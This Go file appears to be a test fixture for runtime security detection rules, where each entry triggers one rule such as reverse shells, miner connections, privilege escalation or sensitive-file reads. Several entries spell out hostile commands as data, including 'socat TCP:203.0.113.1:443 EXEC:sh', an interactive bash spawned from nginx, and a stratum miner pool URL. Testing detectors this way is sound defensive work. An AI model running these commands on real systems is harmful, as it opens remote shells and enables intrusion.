// SPDX-License-Identifier: Apache-2.0

//go:build linux && amd64

package main

import (
	"os"
	"path/filepath"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// sandboxOffences are in the order of the rules.
var sandboxOffences = []offence{
	{rule: "Unexpected inbound connection source", do: accepts("203.0.113.1", "10.0.0.1"),
		fields: map[string]any{"fd.lport": 8443.0, "fd.type": "ipv4", "fd.name": has("203.0.113.1:")}},
	{rule: "Read Shell Configuration File", do: reads("/home/user/.bashrc", "/home/user/bashrc"), fields: map[string]any{"fd.name": "/home/user/.bashrc"}},
	{rule: "Update Package Repository", do: writes("/etc/apt/sources.list.d/other.list", "/etc/apt/preferences.d/other"),
		fields: map[string]any{"fd.name": "/etc/apt/sources.list.d/other.list"}},
	{rule: "Write below binary dir", do: writes("/usr/bin/new", "/usr/games/new"), fields: map[string]any{"fd.name": "/usr/bin/new"}},
	{rule: "Write below monitored dir", do: writes("/usr/local/lib/new", "/usr/local/share/new"), fields: map[string]any{"fd.name": "/usr/local/lib/new"}},
	{rule: "Write below etc", do: writes("/etc/new", "/etc/motd"), fields: map[string]any{"fd.name": "/etc/new"}},
	{rule: "Write below root", do: writes("/root/new", "/root/.bash_history"), fields: map[string]any{"fd.name": "/root/new"}},
	{rule: "Write below rpm database", do: writes("/var/lib/rpm/new", "/var/lib/dpkg/new"), fields: map[string]any{"fd.name": "/var/lib/rpm/new"}},
	{rule: "Modify binary dirs", do: removes("/usr/bin/old", "/usr/share/old"), fields: map[string]any{"evt.type": "unlinkat"}},
	{rule: "Mkdir binary dirs", do: mkdirs("/usr/bin/new", "/usr/share/new"), fields: map[string]any{"evt.type": "mkdirat"}},
	{rule: "Launch Disallowed Container", container: true, own: "macro `allowed_containers`", do: startsFirst(first, first),
		fields: map[string]any{"proc.name": "first"}},
	{rule: "Interpreted procs inbound network activity", program: "python3", do: accepts("203.0.113.1", "127.0.0.1"),
		fields: map[string]any{"proc.name": "python3", "fd.lport": 8443.0}},
	{rule: "Interpreted procs outbound network activity", program: "python3", do: connects(unix.SOCK_STREAM, "203.0.113.1:443", "10.0.0.1:443"),
		fields: map[string]any{"proc.name": "python3", "fd.name": has("->203.0.113.1:443")}},
	{rule: "Unexpected K8s NodePort Connection", container: true, do: connects(unix.SOCK_STREAM, "203.0.113.1:30080", "203.0.113.1:8080"),
		fields: map[string]any{"fd.name": has("->203.0.113.1:30080"), "evt.type": "connect"}},
	{rule: "Create Hidden Files or Directories", do: mkdirs("/home/user/.new", "/home/user/new"), fields: map[string]any{"evt.type": "mkdirat"}},
	{rule: "Detect outbound connections to common miner pool ports", repeat: true,
		do:     connects(unix.SOCK_STREAM, poolAddr+":3333", "203.0.113.1:3333"),
		fields: map[string]any{"fd.name": has("->" + poolAddr + ":3333")}},
	{rule: "Detect crypto miners using the Stratum protocol", args: []string{"stratum+tcp://pool.example:3333"}, innocent: []string{"tcp://pool.example:3333"},
		fields: map[string]any{"proc.cmdline": "offender stratum+tcp://pool.example:3333"}},
	{rule: "Kubernetes Client Tool Launched in Container", program: "kubectl", container: true, fields: map[string]any{"proc.name": "kubectl"}},
	{rule: "Container Drift Detected (chmod)", container: true, do: chmods(0o755, 0o644), fields: map[string]any{"evt.arg.mode": has("S_IXUSR")}},
	{rule: "Container Drift Detected (open+create)", container: true, do: creates(0o755, 0o644), fields: map[string]any{"evt.arg.mode": "0755", "evt.arg.name": has("/file")}},
	{rule: "Container Run as Root User", container: true, do: startsFirst(first,
		&syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWPID, Credential: &syscall.Credential{Uid: nobodyUser, Gid: nobodyUser}},
	), fields: map[string]any{"user.uid": 0.0, "proc.name": "first"}},
	{rule: "Sudo Potential Privilege Escalation", program: "sudoedit", login: true, args: []string{"-s", `\`}, innocent: []string{"-s", "/etc/motd"},
		fields: map[string]any{"proc.name": "sudoedit", "proc.cmdline": `sudoedit -s \`}},
	{rule: "Unprivileged Delegation of Page Faults Handling to a Userspace Process", user: nobodyUser, do: calls(unix.SYS_USERFAULTFD, 1),
		fields: map[string]any{"evt.type": "userfaultfd", "user.uid": float64(nobodyUser)}},
	{rule: "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", program: "pkexec", login: true, innocent: []string{"--version"},
		fields: map[string]any{"proc.name": "pkexec"}},
	{rule: "Java Process Class File Download", program: "java", do: receives("\xca\xfe\xba\xbe\x00\x00\x00\x34", "\xca\xfe\xd0\x0d"),
		fields: map[string]any{"evt.type": "recvfrom", "proc.name": "java", "fd.l4proto": "tcp"}},
	{rule: "Modify Container Entrypoint", container: true, do: func(dir string, innocent bool) error {
		f, err := os.Create(filepath.Join(dir, "file"))
		if err != nil {
			return err
		}
		f, err = os.OpenFile("/proc/self/fd/"+strconv.Itoa(int(f.Fd())), either(innocent, os.O_RDONLY, os.O_WRONLY), 0)
		if err == nil {
			f.Close()
		}
		return err
	}, fields: map[string]any{"fd.name": has("/proc/self/fd/")}},
	{rule: "Decoding Payload in Container", program: "base64", container: true, args: []string{"-d", "/dev/null"}, innocent: []string{"/dev/null"},
		fields: map[string]any{"proc.cmdline": "base64 -d /dev/null"}},
	{rule: "Basic Interactive Reconnaissance", do: startsOnTerminal("whoami"), fields: map[string]any{"proc.name": "whoami", "proc.pname": "offender"}},
	{rule: "Netcat/Socat Remote Code Execution on Host", program: "socat", args: []string{"TCP:203.0.113.1:443", "EXEC:sh"}, innocent: []string{"TCP:203.0.113.1:443", "STDIO"},
		fields: map[string]any{"proc.cmdline": "socat TCP:203.0.113.1:443 EXEC:sh"}},
	{rule: "Network Tool Executed During NPM Package Install", program: "npm", container: true, do: starts([]string{"nc"}, []string{"true"}),
		fields: map[string]any{"proc.name": "nc", "proc.pname": "npm"}},
	{rule: "Known Cryptominer Process Executed", program: "xmrig", fields: map[string]any{"proc.name": "xmrig"}},
	{rule: "Web Server Spawned Shell", program: "nginx", do: starts([]string{"sh", "-c", "exit"}, []string{"sh", "-c", "/usr/bin/true"}),
		fields: map[string]any{"proc.name": "sh", "proc.pname": "nginx", "proc.cmdline": "sh -c exit"}},
	{rule: "Web Server Spawned Suspicious Child Process", program: "nginx", do: starts([]string{"wget", "http://203.0.113.1/"}, []string{"wget", "healthcheck"}),
		fields: map[string]any{"proc.name": "wget", "proc.pname": "nginx"}},
	{rule: "Reverse Shell from Web Server", program: "nginx", do: starts([]string{"bash", "-i"}, []string{"bash", "-c", "exit"}),
		fields: map[string]any{"proc.cmdline": "bash -i", "proc.pname": "nginx"}},
	{rule: "Privileged Container Device Access", container: true, do: reads("/dev/sda", "/dev/tape"), fields: map[string]any{"fd.name": "/dev/sda"}},
	{rule: "Container Access to Host Sensitive Paths", container: true, do: reads("/host/etc/passwd", "/srv/etc/passwd"), fields: map[string]any{"fd.name": "/host/etc/passwd"}},
}

// first makes a process the first one of a PID namespace.
var first = &syscall.SysProcAttr{Cloneflags: unix.CLONE_NEWPID}
